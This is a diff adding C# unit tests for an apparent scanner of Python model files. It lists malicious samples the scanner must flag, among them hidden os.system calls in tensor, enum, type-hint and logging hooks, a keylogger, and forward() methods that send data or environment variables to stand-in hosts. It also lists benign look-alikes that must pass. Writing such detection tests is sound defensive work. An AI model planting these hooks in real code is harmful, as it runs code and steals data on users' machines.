@@ -151,4 +151,70 @@ public sealed class CarriedValuesTests
         TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(Head + source), "modeling_x.py");
         Assert.True(report.Verdict is Verdict.Passed, report.Describe());
     }
+
+    [Theory]
+    [InlineData("import os\nclass T(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, t, a=(), k=None):\n        os.system('./x')\n")]
+    [InlineData("import os\nclass A:\n    def __array_ufunc__(self, u, m, *i, **k):\n        os.system('./x')\n")]
+    [InlineData("import os, enum\nclass E(enum.Enum):\n    A = 'a'\n    @classmethod\n    def _missing_(cls, v):\n        os.system('./x')\nE('b')\n")]
+    [InlineData("import typing\ndef f(x: \"__import__('os').system('./x')\"): return x\ntyping.get_type_hints(f)\n")]
+    [InlineData("import typing\nclass C:\n    x: \"__import__('os').system('./x')\" = 1\ntyping.get_type_hints(C)\n")]
+    [InlineData("import inspect\ndef f() -> \"__import__('os').system('./x')\": pass\ninspect.signature(f, eval_str=True)\n")]
+    [InlineData("import string, importlib\nn = string.Template('${a}${b}').substitute(a='subpro', b='cess')\ngetattr(importlib.import_module(n), 'run')(['./x'])\n")]
+    [InlineData("import string, os\ngetattr(os, string.Template('$p$q').safe_substitute({'p': 'sys', 'q': 'tem'}))('./x')\n")]
+    [InlineData("import re\nre.sub('a(.*)', lambda m: str(eval(m.group(1))), open('t.txt').read())\n")]
+    [InlineData("import json\njson.load(open('e.json'), object_hook=lambda d: eval(d['v']) if 'v' in d else d)\n")]
+    [InlineData("import logging.config, os\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': os.system, 'command': './x'}}})\n")]
+    [InlineData("import logging.config\nlogging.config.dictConfig({'version': 1, 'filters': {'h': {'()': 'os.system', 'command': './x'}}})\n")]
+    [InlineData("import multiprocessing.util as u\nu.spawnv_passfds(b'/bin/sh', [b'sh', b'-c', b'./x'], ())\n")]
+    [InlineData("import gradio as gr\ndef run(t): return str(eval(t[6:]))\ngr.Interface(run, 'text', 'text').launch()\n")]
+    [InlineData("import gradio as gr\ndef run(t): return str(eval(t))\nwith gr.Blocks() as b:\n    gr.Button('a')\nb.load(fn=run)\n")]
+    [InlineData("from pynput import keyboard\nimport requests\ndef press(k): requests.post('https://c.example.test', data=str(k))\nkeyboard.Listener(on_press=press).start()\n")]
+    [InlineData("import requests\nclass M(nn.Module):\n    def forward(self, x):\n        requests.post('https://c.example.test', json={'x': x.tolist()})\n        return x\n")]
+    [InlineData("import threading, urllib.request\nclass M(nn.Module):\n    def forward(self, x):\n        threading.Thread(target=urllib.request.urlopen, args=('https://c.example.test', bytes(x))).start()\n        return x\n")]
+    [InlineData("import socket\nclass M(nn.Module):\n    def forward(self, x):\n        socket.gethostbyname(bytes(x).hex() + '.d.example.test')\n        return x\n")]
+    [InlineData("import socket\nclass M(nn.Module): pass\ndef f(self, x):\n    socket.getaddrinfo(f'{x}.d.example.test', 80)\nM.generate = f\n")]
+    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        eval(compile(bytes.fromhex(config.table), 'r', 'exec'))\n")]
+    [InlineData("class M(nn.Module):\n    def __init__(self):\n        with open('/proc/self/mem', 'r+b', 0) as m:\n            m.seek(4096)\n            m.write(b'a')\n")]
+    [InlineData("import pathlib\np = pathlib.Path.home() / '.config/pip/pip.conf'\np.write_text('[global]\\nindex-url = http://pypi.example.test/simple\\n')\n")]
+    [InlineData("import os, requests\nfrom transformers import TrainerCallback\nclass C(TrainerCallback):\n    def on_save(self, *a, **k):\n        requests.post('https://c.example.test', json=dict(os.environ))\n")]
+    public void T158_WhatOthersCallIsFound(string source)
+    {
+        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(Head + source), "modeling_x.py");
+        Assert.True(report.Findings.Any(f => f.Severity >= Severity.Medium), report.Describe());
+    }
+
+    [Theory]
+    [InlineData("class T(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, t, a=(), k=None):\n        return super().__torch_function__(f, t, a, k or {})\n")]
+    [InlineData("import typing\ndef f(x: 'int') -> 'nn.Module': return x\ntyping.get_type_hints(f)\n")]
+    [InlineData("import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'logging.StreamHandler', 'level': 'INFO'}}})\n")]
+    [InlineData("import gradio as gr\ndef run(t): return t.upper()\ngr.Interface(run, 'text', 'text').launch()\n")]
+    [InlineData("import requests, io\nclass P(nn.Module):\n    def forward(self, url):\n        return io.BytesIO(requests.get(url).content)\n")]
+    [InlineData("import socket\nclass M(nn.Module):\n    def __init__(self):\n        self.host = socket.gethostbyname(socket.gethostname())\n")]
+    [InlineData("import os\nfrom transformers import TrainerCallback\nclass C(TrainerCallback):\n    def on_save(self, *a, **k):\n        os.system('aws s3 cp ckpt s3://b/')\n")]
+    [InlineData("import os\nHAS = os.system('where cl.exe >nul 2>nul') == 0\n")]
+    [InlineData("import subprocess\nsubprocess.run('pip install flash-attn --no-build-isolation', shell=True)\n")]
+    [InlineData("import sys\nfor a in sys.argv[1:]:\n    if '=' not in a:\n        exec(open(a).read())\n")]
+    [InlineData("import ctypes\nlib = ctypes.cdll.LoadLibrary('libx.so')\ndef fill(kind, p): getattr(lib, f'c{kind}_fill')(p)\nfill('uint8', 0)\n")]
+    [InlineData("def a(x): return b(x)\ndef b(x): return a(x) if x else 0\nclass C:\n    def m(self): return a(self.n)\n")]
+    public void WhatOthersCallIsOrdinary(string source)
+    {
+        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(Head + source), "modeling_x.py");
+        Assert.True(report.Verdict is Verdict.Passed, report.Describe());
+    }
+
+    // What is passed over must not hide what is reached through it: by a function, a class, a table, an import of a function's own.
+    [Theory]
+    [InlineData("import os\ndef low(c): os.system(c)\ndef mid(c): low(c)\nclass M(nn.Module):\n    def __init__(self): mid('./x')\n")]
+    [InlineData("import os\nT = {'a': os.system}\nclass M(nn.Module):\n    def __init__(self): T['a']('./x')\n")]
+    [InlineData("class M(nn.Module):\n    def __init__(self):\n        from os import system as s\n        s('./x')\n")]
+    [InlineData("import os\nclass H:\n    def go(self): os.system('./x')\nh = H()\nclass M(nn.Module):\n    def __init__(self): h.go()\n")]
+    [InlineData("import random\nclass M(nn.Module):\n    def __init__(self): random._os.system('./x')\n")]
+    [InlineData("def plain(): pass\nclass M(nn.Module):\n    def __init__(self): plain.__globals__['__builtins__'].exec(self.t)\n")]
+    [InlineData("import os\ng = None\ndef put():\n    global g\n    g = os.system\nput()\nclass M(nn.Module):\n    def __init__(self): g('./x')\n")]
+    [InlineData("import functools, os\nrun = functools.partial(os.system, './x')\nclass M(nn.Module):\n    def __init__(self): run()\n")]
+    public void WhatIsReachedThroughPlainCodeIsFound(string source)
+    {
+        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(Head + source), "modeling_x.py");
+        Assert.True(report.Findings.Any(f => f.Severity >= Severity.Medium && f.Phase is "load" or "import"), report.Describe());
+    }
 }
